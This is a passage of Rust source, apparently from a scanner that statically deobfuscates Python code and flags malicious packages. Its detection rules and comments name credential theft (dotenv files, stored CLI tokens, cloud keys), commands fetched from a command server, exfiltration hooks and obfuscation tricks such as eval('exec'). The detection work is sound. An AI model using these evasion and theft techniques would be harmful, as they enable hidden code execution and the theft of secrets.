    /// Assignments visible at `n` for `name`: the enclosing function's own, else
    /// (unless `name` is one of its parameters) the module's.
    /// Id of the innermost function definition containing `n` (0 at module level).
    fn enclosing_fn(&self, n: Node<'_>) -> usize {
        let pos = n.start_byte();
        let idx = self.fn_ranges.partition_point(|r| r.0 < pos);
        if idx == 0 || self.fn_max_end[idx - 1] <= pos {
            return 0;
        }
        for r in self.fn_ranges[..idx].iter().rev() {
            if r.1 > pos {
                return r.2;
            }
        }
        0
    }

    fn lookup(&self, n: Node<'t>, name: &str) -> Option<&Vec<Node<'t>>> {
        let mut fid = self.enclosing_fn(n);
        // Innermost function first, then enclosing functions (closures), then the module.
        for _ in 0..16 {
            if fid == 0 {
                break;
            }
            if let Some(v) = self.assigns.get(&(fid, name.to_string())) {
                return Some(v);
            }
            let Some(f) = self.funcs_by_id.get(&fid) else {
                break;
            };
            if param_names(*f, self.src).contains(&Some(name)) {
                return None;
            }
            fid = self.parent_fn(f.start_byte(), f.end_byte());
        }
        self.assigns.get(&(0, name.to_string()))
    }

    /// When `n` is a parameter of the named function enclosing it: (function name,
    /// parameter index not counting a leading `self`). Parameters that are reassigned
    /// inside the function are not followed.
    fn param_of(&self, n: Node<'t>) -> Option<(String, usize)> {
        if kind(n) != "identifier" {
            return None;
        }
        let name = text(n, self.src);
        let f = self.funcs_by_id.get(&self.enclosing_fn(n))?;
        if self.assigns.contains_key(&(f.id(), name.to_string())) {
            return None;
        }
        let fname = text(f.child_by_field_id(field!("name"))?, self.src).to_string();
        let names = param_names(*f, self.src);
        let skip = usize::from(names.first() == Some(&Some("self")));
        let i = names.iter().position(|p| *p == Some(name))?;
        (i >= skip).then(|| (fname, i - skip))
    }

    /// The assignment of `name` that reaches its use `n`: the latest one ending
    /// before the use, not the one the use is part of (`url = decode(url)`); when none
    /// comes before (a module variable read in a function defined above it), the only
    /// assignment there is. Flow-insensitive otherwise (branches are not told apart).
    fn reaching(&self, n: Node<'t>, name: &str) -> Option<Node<'t>> {
        let rhs = self.lookup(n, name)?;
        rhs.iter()
            .filter(|r| r.end_byte() <= n.start_byte())
            .max_by_key(|r| r.start_byte())
            .or_else(|| if rhs.len() == 1 { rhs.first() } else { None })
            .copied()
    }

    /// Id of the function strictly enclosing the byte range `start..end` (0 if none).
    fn parent_fn(&self, start: usize, end: usize) -> usize {
        let idx = self.fn_ranges.partition_point(|r| r.0 < start);
        self.fn_ranges[..idx]
            .iter()
            .rev()
            .find(|r| r.1 >= end)
            .map_or(0, |r| r.2)
    }

    fn add_import(&mut self, n: Node<'t>, from: Option<&str>) {
        let src = self.src;
        let (name, alias) = match kind(n) {
            "aliased_import" => (
                n.child_by_field_id(field!("name")).map(|x| text(x, src)),
                n.child_by_field_id(field!("alias")).map(|x| text(x, src)),
            ),
            "dotted_name" => (Some(text(n, src)), None),
            _ => (None, None),
        };
        let Some(name) = name else { return };
        match from {
            None => {
                let root = name.split('.').next().unwrap_or(name);
                match alias {
                    Some(a) => self.aliases.insert(a.to_string(), name.to_string()),
                    None => self.aliases.insert(root.to_string(), root.to_string()),
                };
            }
            Some(m) => {
                let full = if m.is_empty() {
                    name.to_string()
                } else {
                    format!("{m}.{name}")
                };
                let local = alias.unwrap_or(name);
                self.aliases.insert(local.to_string(), full);
            }
        }
    }

    /// Canonical dotted name of a callee expression, and whether it was reached
    /// through the builtins module (`__import__('builtins').exec`, `getattr(__builtins__, ...)`).
    /// Enter one level of static evaluation, or `None` when nested too deeply.
    fn enter(&self) -> Option<NestGuard<'_>> {
        let d = self.nesting.get();
        if d >= MAX_NESTING {
            return None;
        }
        self.nesting.set(d + 1);
        Some(NestGuard(&self.nesting))
    }

    fn canon(&self, n: Node<'t>, depth: u32) -> Option<(String, bool)> {
        if depth > 12 {
            return None;
        }
        let _nest = self.enter()?;
        let src = self.src;
        match kind(n) {
            "identifier" => {
                let t = text(n, src);
                if let Some(a) = self.aliases.get(t) {
                    return Some(norm_builtins(a.clone()));
                }
                if let Some(rhs) = self.reaching(n, t)
                    && kind(rhs) == "call"
                    && let Some(f) = rhs.child_by_field_id(field!("function"))
                    && let Some((c, e)) = self.canon(f, depth + 1)
                {
                    if let Some(b) = self.builtin_by_name(&c, rhs) {
                        return Some((b, true));
                    }
                    return Some((format!("{c}()"), e));
                }
                if self.module_defs.contains(t) {
                    // The package's own function or class, not a builtin of that name.
                    return Some((format!("{t}{OWN}"), false));
                }
                Some(norm_builtins(t.to_string()))
            }
            "attribute" => {
                let obj = n.child_by_field_id(field!("object"))?;
                let attr = text(n.child_by_field_id(field!("attribute"))?, src);
                let (base, esc) = self
                    .canon(obj, depth + 1)
                    .unwrap_or_else(|| ("?".into(), false));
                let (c, e2) = norm_builtins(format!("{base}.{attr}"));
                Some((c, esc || e2))
            }
            "parenthesized_expression" => {
                let mut c = n.walk();
                let inner = n.named_children(&mut c).next()?;
                self.canon(inner, depth + 1)
            }
            "subscript" => {
                // X.__dict__['name'] / globals()['name']
                let value = n.child_by_field_id(field!("value"))?;
                let sub = n.child_by_field_id(field!("subscript"))?;
                let key = self.static_str(sub)?;
                let (base, esc) = self.canon(value, depth + 1)?;
                let base = base
                    .trim_end_matches(".__dict__")
                    .trim_end_matches("globals()")
                    .trim_end_matches("vars()")
                    .trim_end_matches("locals()")
                    .trim_end_matches('.')
                    .to_string();
                let joined = if base.is_empty() {
                    key
                } else {
                    format!("{base}.{key}")
                };
                let (c, e2) = norm_builtins(joined);
                Some((c, esc || e2))
            }
            "call" => {
                let f = n.child_by_field_id(field!("function"))?;
                let args = n.child_by_field_id(field!("arguments"));
                let ft = text(f, src);
                let first = args.and_then(|a| a.named_child(0));
                let second = args.and_then(|a| a.named_child(1));
                match ft {
                    "__import__" | "importlib.import_module" | "import_module" => {
                        let m = self.static_str(first?)?;
                        Some(norm_builtins(m))
                    }
                    "getattr" => {
                        let (base, esc) = self.canon(first?, depth + 1)?;
                        let attr = self.static_str(second?)?;
                        let (c, e2) = norm_builtins(format!("{base}.{attr}"));
                        Some((c, esc || e2))
                    }
                    _ => {
                        let (c, e) = self.canon(f, depth + 1)?;
                        if let Some(b) = self.builtin_by_name(&c, n) {
                            return Some((b, true));
                        }
                        Some((format!("{c}()"), e))
                    }
                }
            }
            _ => None,
        }
    }

    /// `eval("exec")`: a call of eval (canonical name `callee`) on the bare name of a
    /// builtin that runs or imports code gives that builtin. Obfuscators (BlankOBF)
    /// reach every builtin this way so that no `exec(` appears in the file.
    fn builtin_by_name(&self, callee: &str, call: Node<'t>) -> Option<String> {
        if callee != "eval" {
            return None;
        }
        let arg = call
            .child_by_field_id(field!("arguments"))?
            .named_child(0)?;
        let name = self.static_str(arg)?;
        let name = name.trim();
        CODE_REACHING_BUILTINS
            .contains(&name)
            .then(|| name.to_string())
    }

    /// The values of a loop variable bound by an enclosing `for var in <static
    /// sequence>` (`for f in "sum len min".split():`), if they are all known.
    fn loop_values(&self, n: Node<'t>) -> Option<Vec<String>> {
        if kind(n) != "identifier" {
            return None;
        }
        let var = text(n, self.src);
        let mut p = n.parent();
        while let Some(x) = p {
            match kind(x) {
                "function_definition" | "class_definition" | "module" => return None,
                "for_statement"
                    if x.child_by_field_id(field!("left"))
                        .is_some_and(|l| text(l, self.src) == var) =>
                {
                    let seq = self.static_seq(x.child_by_field_id(field!("right"))?, 0)?;
                    return seq.into_iter().map(|b| String::from_utf8(b).ok()).collect();
                }
                _ => {}
            }
            p = x.parent();
        }
        None
    }

    /// A string value known statically (literal, or decoded).
    fn static_str(&self, n: Node<'t>) -> Option<String> {
        let (b, _) = self.static_bytes(n, 0)?;
        String::from_utf8(b).ok()
    }

    /// Statically evaluate an expression to bytes; the flag says whether a decoding or
    /// string-building step was involved (base64, zlib, reversal, chr joins...).
    fn static_bytes(&self, n: Node<'t>, depth: u32) -> Option<(Vec<u8>, bool)> {
        if depth > 24 {
            return None;
        }
        let _nest = self.enter()?;
        let src = self.src;
        match kind(n) {
            "string" => {
                let l = pylit::decode(text(n, src))?;
                if l.fstring {
                    let mut c = n.walk();
                    if n.named_children(&mut c).any(|x| kind(x) == "interpolation") {
                        return self.static_fstring(n, depth);
                    }
                }
                Some((l.bytes, false))
            }
            "concatenated_string" => {
                let mut out = Vec::new();
                let mut c = n.walk();
                for s in n.named_children(&mut c) {
                    out.extend(self.static_bytes(s, depth + 1)?.0);
                }
                Some((out, false))
            }
            "parenthesized_expression" => {
                let mut c = n.walk();
                let inner = n.named_children(&mut c).next()?;
                self.static_bytes(inner, depth + 1)
            }
            "binary_operator" => {
                if n.child_by_field_id(field!("operator"))
                    .map(|o| text(o, src))
                    != Some("+")
                {
                    return None;
                }
                // Flatten the left spine iteratively (long chr()+chr()+... chains).
                let mut parts = Vec::new();
                let mut cur = n;
                while kind(cur) == "binary_operator"
                    && cur
                        .child_by_field_id(field!("operator"))
                        .map(|o| text(o, src))
                        == Some("+")
                {
                    parts.push(cur.child_by_field_id(field!("right"))?);
                    cur = cur.child_by_field_id(field!("left"))?;
                    if parts.len() > 100_000 {
                        return None;
                    }
                }
                parts.push(cur);
                let mut out = Vec::new();
                let mut tr = false;
                for p in parts.iter().rev() {
                    let (b, t) = self.static_bytes(*p, depth + 1)?;
                    tr |= t;
                    out.extend(b);
                    if out.len() > decode::MAX_OUT {
                        return None;
                    }
                }
                Some((out, tr))
            }
            "identifier" => {
                let name = text(n, src);
                if let Some((_, v)) = self.bindings.borrow().iter().rev().find(|(k, _)| k == name) {
                    return v.clone();
                }
                self.static_bytes(self.reaching(n, name)?, depth + 1)
            }
            "subscript" => {
                let sub = n.child_by_field_id(field!("subscript"))?;
                if kind(sub) == "slice" && text(sub, src).replace(' ', "") == "::-1" {
                    let (mut b, _) =
                        self.static_bytes(n.child_by_field_id(field!("value"))?, depth + 1)?;
                    b.reverse();
                    return Some((b, true));
                }
                None
            }
            "call" => self.static_call(n, depth),
            _ => None,
        }
    }

    /// Value of an f-string whose every interpolation has a static value and no
    /// conversion or format (`f"/tmp/{name} -o {POOL}"`).
    fn static_fstring(&self, n: Node<'t>, depth: u32) -> Option<(Vec<u8>, bool)> {
        let lit = text(n, self.src);
        let mut out = Vec::new();
        let mut tr = false;
        let mut c = n.walk();
        for ch in n.named_children(&mut c) {
            match kind(ch) {
                "string_content" => out.extend(pylit::fstring_part(lit, text(ch, self.src))),
                "interpolation" => {
                    if ch.child_by_field_id(field!("type_conversion")).is_some()
                        || ch.child_by_field_id(field!("format_specifier")).is_some()
                    {
                        return None;
                    }
                    let (b, t) =
                        self.static_bytes(ch.child_by_field_id(field!("expression"))?, depth + 1)?;
                    tr |= t;
                    out.extend(b);
                }
                _ => {}
            }
            if out.len() > decode::MAX_OUT {
                return None;
            }
        }
        Some((out, tr))
    }

    fn args(&self, call: Node<'t>) -> Vec<Node<'t>> {
        let mut out = Vec::new();
        if let Some(a) = call.child_by_field_id(field!("arguments")) {
            let mut c = a.walk();
            out.extend(a.named_children(&mut c).filter(|x| kind(x) != "comment"));
        }
        out
    }

    fn static_call(&self, n: Node<'t>, depth: u32) -> Option<(Vec<u8>, bool)> {
        let src = self.src;
        let f = n.child_by_field_id(field!("function"))?;
        let args = self.args(n);
        let positional: Vec<Node<'t>> = args
            .iter()
            .copied()
            .filter(|a| kind(a) != "keyword_argument")
            .collect();
        let arg0 = || positional.first().copied();
        let sub = |x: Option<Node<'t>>| x.and_then(|x| self.static_bytes(x, depth + 1));
        // Method calls on a value: x.decode(), x.encode(), sep.join(...).
        if kind(f) == "attribute" {
            let attr = f
                .child_by_field_id(field!("attribute"))
                .map(|a| text(a, src))?;
            let obj = f.child_by_field_id(field!("object"))?;
            let obj_canon = self.canon(obj, 0).map(|c| c.0).unwrap_or_default();
            let is_module = !obj_canon.contains("()")
                && (self
                    .aliases
                    .contains_key(obj_canon.split('.').next().unwrap_or(""))
                    || matches!(obj_canon.as_str(), "bytes" | "str" | "bytearray"));
            if !is_module {
                match attr {
                    "decode" | "encode" => {
                        let (b, t) = self.static_bytes(obj, depth + 1)?;
                        let enc = arg0()
                            .and_then(|a| self.static_str(a))
                            .unwrap_or_default()
                            .to_ascii_lowercase();
                        return apply_codec(&enc, b, t);
                    }
                    "strip" | "lstrip" | "rstrip" | "lower" | "upper" => {
                        if !positional.is_empty() {
                            return None;
                        }
                        let (b, t) = self.static_bytes(obj, depth + 1)?;
                        let s = String::from_utf8_lossy(&b).to_string();
                        let s = match attr {
                            "strip" => s.trim().to_string(),
                            "lstrip" => s.trim_start().to_string(),
                            "rstrip" => s.trim_end().to_string(),
                            "lower" => s.to_lowercase(),
                            _ => s.to_uppercase(),
                        };
                        return Some((s.into_bytes(), t));
                    }
                    "replace" => {
                        let (b, t) = self.static_bytes(obj, depth + 1)?;
                        let from = self
                            .static_bytes(positional.first().copied()?, depth + 1)?
                            .0;
                        let to = self.static_bytes(positional.get(1).copied()?, depth + 1)?.0;
                        if from.is_empty() {
                            return None;
                        }
                        let s = String::from_utf8_lossy(&b).replace(
                            String::from_utf8_lossy(&from).as_ref(),
                            String::from_utf8_lossy(&to).as_ref(),
                        );
                        let _ = t;
                        return Some((s.into_bytes(), true));
                    }
                    "join" => {
                        let (sep, _) = self.static_bytes(obj, depth + 1)?;
                        let items = self.static_seq(arg0()?, depth + 1)?;
                        let mut out = Vec::new();
                        for (i, it) in items.iter().enumerate() {
                            if i > 0 {
                                out.extend_from_slice(&sep);
                            }
                            out.extend_from_slice(it);
                            if out.len() > decode::MAX_OUT {
                                return None;
                            }
                        }
                        // (Joining one piece builds nothing.)
                        return Some((out, items.len() > 1));
                    }
                    _ => {}
                }
            }
        }
        if let Some(lam) = self.lambda_of(f) {
            return self.static_lambda_call(lam, &positional, depth);
        }
        if kind(f) == "identifier"
            && !self.aliases.contains_key(text(f, src))
            && let Some(func) = self.funcs.get(text(f, src))
        {
            return self.static_local_call(*func, &positional, depth);
        }
        let (name, _) = self.canon(f, 0)?;
        let name = name.as_str();
        let last = name.rsplit('.').next().unwrap_or(name);
        let b64_family = [
            "b64decode",
            "decodebytes",
            "decodestring",
            "standard_b64decode",
            "urlsafe_b64decode",
            "a2b_base64",
        ];
        let out = match name {
            n if n.starts_with("base64.") && b64_family.contains(&last) => {
                decode::b64(&sub(arg0())?.0)?
            }
            "binascii.a2b_base64" => decode::b64(&sub(arg0())?.0)?,
            "base64.b32decode" => decode::b32(&sub(arg0())?.0)?,
            "base64.b16decode" | "bytes.fromhex" | "binascii.unhexlify" | "binascii.a2b_hex"
            | "bytearray.fromhex" => decode::unhex(&sub(arg0())?.0)?,
            "zlib.decompress" | "gzip.decompress" => decode::inflate(&sub(arg0())?.0)?,
            "bz2.decompress" => decode::bunzip(&sub(arg0())?.0)?,
            "lzma.decompress" => decode::unxz(&sub(arg0())?.0)?,
            "codecs.decode" | "codecs.encode" => {
                let (b, t) = sub(arg0())?;
                let enc = positional
                    .get(1)
                    .and_then(|a| self.static_str(*a))
                    .unwrap_or_default()
                    .to_ascii_lowercase();
                return apply_codec(&enc, b, t);
            }
            "chr" | "unichr" => {
                let v = int_value(text(arg0()?, self.parsed))?;
                let c = char::from_u32(u32::try_from(v).ok()?)?;
                c.to_string().into_bytes()
            }
            "bytes" | "bytearray" | "str" => {
                let a = arg0()?;
                if matches!(kind(a), "list" | "tuple") {
                    let mut out = Vec::new();
                    let mut c = a.walk();
                    for x in a.named_children(&mut c) {
                        out.push(u8::try_from(int_value(text(x, self.parsed))?).ok()?);
                    }
                    out
                } else {
                    return sub(Some(a));
                }
            }
            _ => return None,
        };
        Some((out, true))
    }

    /// The lambda a callee stands for: `(lambda x: ...)` or a name bound to one.
    fn lambda_of(&self, f: Node<'t>) -> Option<Node<'t>> {
        let mut f = f;
        while kind(f) == "parenthesized_expression" {
            f = f.named_child(0)?;
        }
        match kind(f) {
            "lambda" => Some(f),
            "identifier" => {
                let rhs = self.reaching(f, text(f, self.src))?;
                (kind(rhs) == "lambda").then_some(rhs)
            }
            _ => None,
        }
    }

    /// Evaluate a call of a lambda statically, binding its parameters.
    fn static_lambda_call(
        &self,
        lam: Node<'t>,
        args: &[Node<'t>],
        depth: u32,
    ) -> Option<(Vec<u8>, bool)> {
        let src = self.src;
        let body = lam.child_by_field_id(field!("body"))?;
        let mut names = Vec::new();
        if let Some(params) = lam.child_by_field_id(field!("parameters")) {
            let mut c = params.walk();
            for p in params.named_children(&mut c) {
                if kind(p) != "identifier" {
                    return None;
                }
                names.push(text(p, src).to_string());
            }
        }
        if names.len() != args.len() || self.bindings.borrow().len() > 16 {
            return None;
        }
        self.eval_bound(names, args, body, depth)
    }

    /// Evaluate a call of a local helper (`def d(s): return b64decode(s)`) statically.
    fn static_local_call(
        &self,
        func: Node<'t>,
        args: &[Node<'t>],
        depth: u32,
    ) -> Option<(Vec<u8>, bool)> {
        let src = self.src;
        let rets = returns_of(func);
        if rets.len() != 1 || self.bindings.borrow().len() > 16 {
            return None;
        }
        let names: Vec<String> = param_names(func, src)
            .into_iter()
            .map(|n| n.map(str::to_string))
            .collect::<Option<_>>()?;
        if names.first().is_some_and(|n| n == "self") || names.len() != args.len() {
            return None;
        }
        self.eval_bound(names, args, rets[0], depth)
    }

    /// Evaluate `body` statically with `names` bound to the static values of `args`
    /// (parameters of a lambda or local helper), then unbind them.
    fn eval_bound(
        &self,
        names: Vec<String>,
        args: &[Node<'t>],
        body: Node<'t>,
        depth: u32,
    ) -> Option<(Vec<u8>, bool)> {
        let values: Vec<_> = args
            .iter()
            .map(|a| self.static_bytes(*a, depth + 1))
            .collect();
        let n = names.len();
        self.bindings
            .borrow_mut()
            .extend(names.into_iter().zip(values));
        let out = self.static_bytes(body, depth + 1);
        let mut b = self.bindings.borrow_mut();
        let keep = b.len() - n;
        b.truncate(keep);
        out
    }

    /// A sequence of byte strings: list/tuple literals, comprehensions of chr over ints,
    /// `map(chr, [...])`, `reversed(x)`.
    fn static_seq(&self, n: Node<'t>, depth: u32) -> Option<Vec<Vec<u8>>> {
        let src = self.src;
        match kind(n) {
            "list" | "tuple" => {
                let mut out = Vec::new();
                let mut c = n.walk();
                for x in n.named_children(&mut c) {
                    out.push(self.static_bytes(x, depth + 1)?.0);
                }
                Some(out)
            }
            "identifier" => {
                let name = text(n, src);
                let rhs = self.lookup(n, name)?;
                // A list grown at run time is not its literal.
                let grown = [".append(", ".extend(", ".insert(", " +="]
                    .iter()
                    .any(|m| memfind(src, format!("{name}{m}").as_bytes()));
                if rhs.len() != 1 || grown {
                    return None;
                }
                self.static_seq(rhs[0], depth + 1)
            }
            "list_comprehension" | "generator_expression" => {
                // [chr(x) for x in [..]]
                let body = n.child_by_field_id(field!("body"))?;
                let mut c = n.walk();
                let clause = n
                    .named_children(&mut c)
                    .find(|x| kind(x) == "for_in_clause")?;
                let var = text(clause.child_by_field_id(field!("left"))?, src);
                let iter = clause.child_by_field_id(field!("right"))?;
                if kind(body) != "call" {
                    return None;
                }
                let bf = text(body.child_by_field_id(field!("function"))?, src);
                let barg = self.args(body).first().copied()?;
                if bf != "chr" || text(barg, src) != var {
                    return None;
                }
                let ints = self.int_list(iter)?;
                Some(
                    ints.into_iter()
                        .filter_map(|v| char::from_u32(u32::try_from(v).ok()?))
                        .map(|c| c.to_string().into_bytes())
                        .collect(),
                )
            }
            "call" => {
                let func = n.child_by_field_id(field!("function"))?;
                let args = self.args(n);
                // "a b c".split()
                if kind(func) == "attribute"
                    && func
                        .child_by_field_id(field!("attribute"))
                        .is_some_and(|a| text(a, src) == "split")
                    && args.is_empty()
                {
                    let (b, _) =
                        self.static_bytes(func.child_by_field_id(field!("object"))?, depth + 1)?;
                    let s = String::from_utf8(b).ok()?;
                    return Some(
                        s.split_whitespace()
                            .map(|w| w.as_bytes().to_vec())
                            .collect(),
                    );
                }
                let f = text(func, src);
                match f {
                    "map" if args.first().map(|a| text(*a, src)) == Some("chr") => {
                        let ints = self.int_list(*args.get(1)?)?;
                        Some(
                            ints.into_iter()
                                .filter_map(|v| char::from_u32(u32::try_from(v).ok()?))
                                .map(|c| c.to_string().into_bytes())
                                .collect(),
                        )
                    }
                    "reversed" => {
                        let (b, _) = self.static_bytes(*args.first()?, depth + 1)?;
                        let s = String::from_utf8(b).ok()?;
                        Some(
                            s.chars()
                                .rev()
                                .map(|c| c.to_string().into_bytes())
                                .collect(),
                        )
                    }
                    "list" | "tuple" => self.static_seq(*args.first()?, depth + 1),
                    _ => None,
                }
            }
            _ => {
                // A string iterates over its characters.
                let (b, _) = self.static_bytes(n, depth + 1)?;
                let s = String::from_utf8(b).ok()?;
                Some(s.chars().map(|c| c.to_string().into_bytes()).collect())
            }
        }
    }

    fn int_list(&self, n: Node<'t>) -> Option<Vec<i64>> {
        let n = if kind(n) == "identifier" {
            let rhs = self.lookup(n, text(n, self.src))?;
            if rhs.len() != 1 {
                return None;
            }
            rhs[0]
        } else {
            n
        };
        if !matches!(kind(n), "list" | "tuple") {
            return None;
        }
        let mut out = Vec::new();
        let mut c = n.walk();
        for x in n.named_children(&mut c) {
            out.push(int_value(text(x, self.parsed))?);
        }
        Some(out)
    }

    /// Where a value comes from (bit flags), following assignments in the file.
    fn origin(&self, n: Node<'t>, depth: u32) -> u32 {
        if depth == 0 {
            self.budget.set(4000);
        }
        let left = self.budget.get();
        if depth > 80 || left == 0 {
            return UNKNOWN;
        }
        self.budget.set(left - 1);
        let src = self.src;
        match kind(n) {
            "string" => {
                let mut o = LIT;
                let mut c = n.walk();
                for ch in n.named_children(&mut c) {
                    if kind(ch) == "interpolation" {
                        o |= self.origin(ch, depth + 1);
                    }
                }
                o
            }
            "concatenated_string" => {
                // Adjacent literals, some of them f-strings with interpolated values.
                let mut o = LIT;
                let mut c = n.walk();
                for ch in n.named_children(&mut c).take(64) {
                    o |= self.origin(ch, depth + 1);
                }
                o
            }
            "integer" | "float" | "true" | "false" | "none" => LIT,
            "identifier" => {
                let t = text(n, src);
                if t == "__file__" {
                    return LIT;
                }
                match self.lookup(n, t) {
                    Some(v) => v
                        .iter()
                        .take(8)
                        .fold(0, |o, r| o | self.origin(*r, depth + 1)),
                    None => UNKNOWN,
                }
            }
            "attribute" => {
                let c = self.canon(n, 0).map(|c| c.0).unwrap_or_default();
                if c == "os.environ" {
                    return ENV;
                }
                if is_hostinfo(&c) || c == "os.getcwd" {
                    return HOST;
                }
                match n.child_by_field_id(field!("object")) {
                    Some(o) => {
                        let key = text(n, src);
                        let mut r = self.origin(o, depth + 1);
                        if let Some(v) = self.assigns.get(&(0, key.to_string())) {
                            r |= v
                                .iter()
                                .take(8)
                                .fold(0, |o, x| o | self.origin(*x, depth + 1));
                        }
                        r
                    }
                    None => UNKNOWN,
                }
            }
            "call" => self.call_origin(n, depth),
            "subscript" => {
                let v = n.child_by_field_id(field!("value"));
                let sub = n.child_by_field_id(field!("subscript"));
                if let Some(v) = v {
                    let c = self.canon(v, 0).map(|c| c.0).unwrap_or_default();
                    if c == "os.environ" {
                        return LIT; // a single variable: configuration, not collection
                    }
                    if sub.is_some_and(|s| text(s, src).replace(' ', "") == "::-1") {
                        // Reversing a literal hides it; reversing run-time data is ordinary.
                        let o = self.origin(v, depth + 1);
                        return if o & !(LIT | DECODED | OBF) == 0 {
                            o | OBF
                        } else {
                            o
                        };
                    }
                    return self.origin(v, depth + 1);
                }
                UNKNOWN
            }
            "lambda" | "function_definition" => UNKNOWN,
            _ => {
                let mut o = 0;
                let mut c = n.walk();
                for (i, ch) in n.named_children(&mut c).enumerate() {
                    if i > 64 {
                        break;
                    }
                    o |= self.origin(ch, depth + 1);
                }
                if o == 0 { UNKNOWN } else { o }
            }
        }
    }

    fn call_origin(&self, n: Node<'t>, depth: u32) -> u32 {
        let src = self.src;
        let Some(f) = n.child_by_field_id(field!("function")) else {
            return UNKNOWN;
        };
        let name = self.canon(f, 0).map(|c| c.0).unwrap_or_default();
        if is_decoder(&name) {
            return DECODED;
        }
        if name == "marshal.loads" {
            return DECODED;
        }
        if is_fetch(&name) {
            return DOWNLOADED;
        }
        if is_hostinfo(&name) || name == "os.getcwd" {
            return HOST;
        }
        // The host's cloud keys as the SDK resolved them (boto3/botocore).
        let method = name.rsplit('.').next().unwrap_or_default();
        if method == "get_credentials" || method == "get_frozen_credentials" {
            return HOST;
        }
        // A command whose output is a stored credential (`gh auth token`, a keychain entry).
        if is_command(&name)
            && let Some(c) = self.args(n).first()
            && patterns::is_secret_command(&self.cmd_text(*c, 0))
        {
            return STOLEN;
        }
        if name == "open" || name == "io.open" || name == "codecs.open" {
            let sensitive = self.args(n).first().is_some_and(|p| {
                let t = self.cmd_text(*p, 0);
                is_dotenv_path(&t)
                    || patterns::string_rules(&t)
                        .iter()
                        .any(|(r, _)| r.starts_with("STEAL-"))
            });
            return if sensitive {
                STOLEN | FILEREAD
            } else {
                FILEREAD
            };
        }
        if is_stego(&name) {
            return STEGO;
        }
        if matches!(name.as_str(), "chr" | "unichr") {
            return OBF;
        }
        if let Some(lam) = self.lambda_of(f)
            && let Some(body) = lam.child_by_field_id(field!("body"))
        {
            let mut o = self.origin(body, depth + 1);
            for a in self.args(n).iter().take(8) {
                o |= self.origin(*a, depth + 1);
            }
            return if o == 0 { UNKNOWN } else { o };
        }
        if kind(f) == "identifier"
            && !self.aliases.contains_key(text(f, src))
            && let Some(func) = self.funcs.get(text(f, src))
        {
            let mut o = 0;
            for r in returns_of(*func) {
                o |= self.origin(r, depth + 1);
            }
            for a in self.args(n).iter().take(8) {
                o |= self.origin(*a, depth + 1);
            }
            return if o == 0 { UNKNOWN } else { o };
        }
        if matches!(name.as_str(), "os.getenv" | "os.environ.get") {
            return LIT;
        }
        if matches!(
            name.as_str(),
            "dict" | "str" | "list" | "repr" | "json.dumps"
        ) && self
            .args(n)
            .iter()
            .any(|a| self.origin(*a, depth + 1) & ENV != 0)
        {
            return ENV;
        }
        let mut o = 0;
        if kind(f) == "attribute" {
            let attr = f
                .child_by_field_id(field!("attribute"))
                .map(|a| text(a, src))
                .unwrap_or("");
            if matches!(attr, "recv" | "recvfrom" | "recv_into") {
                return SOCKDATA;
            }
            if matches!(attr, "items" | "copy" | "keys" | "values")
                && self
                    .canon(f.child_by_field_id(field!("object")).unwrap_or(f), 0)
                    .is_some_and(|c| c.0 == "os.environ")
            {
                return ENV;
            }
            if attr == "decode" || attr == "encode" {
                // x.decode('base64') (Python 2)
                let enc = self
                    .args(n)
                    .first()
                    .and_then(|a| self.static_str(*a))
                    .unwrap_or_default()
                    .to_ascii_lowercase();
                if matches!(
                    enc.as_str(),
                    "base64" | "hex" | "zlib" | "rot13" | "rot_13" | "bz2" | "base64_codec"
                ) {
                    o |= DECODED;
                }
            }
            if attr == "join" {
                o |= OBF_IF_CHR(self, n);
            }
            if let Some(obj) = f.child_by_field_id(field!("object")) {
                o |= self.origin(obj, depth + 1);
            }
        }
        for a in self.args(n).iter().take(16) {
            o |= self.origin(*a, depth + 1);
        }
        if o == 0 { UNKNOWN } else { o }
    }

    /// Second pass: rules on calls, strings, comparisons and identifiers, over the
    /// nodes the first pass recorded.
    fn walk(&self, ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut Facts) {
        let src = self.src;
        let mut scopes: HashMap<usize, Scope> = HashMap::new();
        let mut unicode_done = false;
        let mut string_pushes = 0usize;
        for v in &self.visits {
            let (n, is_doc) = (v.node, v.is_doc);
            let (scope, fid) = match v.func {
                None => (ctx.top, 0),
                Some(f) => (
                    *scopes
                        .entry(f.id())
                        .or_insert_with(|| self.function_scope(f, ctx)),
                    f.id(),
                ),
            };
            match kind(n) {
                "call" => self.on_call(n, scope, fid, ctx, sink, facts),
                // (Strings inside a concatenated string are not recorded: it is
                // reported as a whole.)
                "string" | "concatenated_string" => {
                    self.on_string(
                        n,
                        (scope, fid),
                        is_doc,
                        ctx,
                        (sink, facts),
                        &mut string_pushes,
                    );
                }
                "comparison_operator" => self.on_platform(n, sink),
                "identifier" if !unicode_done => {
                    let t = text(n, src);
                    if !t.is_ascii() && lookalike(t) {
                        unicode_done = true;
                        push(
                            sink,
                            ctx,
                            "PY-OBF-UNICODE-IDENT",
                            line_of(n),
                            t,
                            format!("identifier `{t}` uses look-alike Unicode letters"),
                            Some(scope),
                        );
                    }
                }
                "import_statement" | "import_from_statement" => {
                    self.on_import(n, sink);
                }
                _ => {}
            }
        }
        // A helper that runs its parameter as a command, called with what the network
        // sent (`runcommand(requests.get(c2).text)`): a command received and run.
        for (fname, idx, line, scope, snip) in self.param_commands.take() {
            let received = self.visits.iter().any(|v| {
                kind(v.node) == "call"
                    && v.node
                        .child_by_field_id(field!("function"))
                        .is_some_and(|f| {
                            let t = text(f, src);
                            t == fname || t == format!("self.{fname}")
                        })
                    && v.node
                        .child_by_field_id(field!("arguments"))
                        .and_then(|a| a.named_child(idx as u32))
                        .is_some_and(|a| {
                            kind(a) != "keyword_argument"
                                && self.origin(a, 0) & (DOWNLOADED | SOCKDATA) != 0
                        })
            });
            if received {
                let msg = format!("runs a command received from the network (through `{fname}`)");
                push(
                    sink,
                    ctx,
                    "CMD-DECODED",
                    line,
                    &snip,
                    msg,
                    Some(scope.undiscounted(ctx.top)),
                );
            }
        }
        // A library function replaced by one of this file's that sends data: a hook that
        // steals what the library is given (keys handed to a wallet or exchange client).
        for (assign, func) in &self.patches {
            let target = assign
                .child_by_field_id(field!("left"))
                .map_or("", |l| text(l, src));
            let root = target.split('.').next().unwrap_or("");
            let Some(f) = self.funcs.get(func.as_str()) else {
                continue;
            };
            if root == "self" || !self.aliases.contains_key(root) {
                continue;
            }
            if let Some((_, _, scope, _)) = facts.upload.iter().find(|u| u.0 == f.id()) {
                push(
                    sink,
                    ctx,
                    "EXFIL-SEND-COLLECTED",
                    line_of(*assign),
                    head_text(*assign, src),
